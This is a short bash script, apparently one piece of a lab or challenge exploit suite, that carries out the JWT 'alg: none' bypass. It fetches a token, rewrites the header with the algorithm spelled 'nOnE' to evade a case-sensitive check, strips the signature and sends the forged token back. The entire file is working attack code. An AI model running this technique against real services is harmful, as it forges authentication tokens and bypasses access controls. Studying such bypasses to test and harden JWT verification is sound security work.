#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at none-spelled token)")"
header="$(printf '{"alg":"nOnE","typ":"JWT"}' | b64)"
send none-spelled "$header.$(claims "$token")."
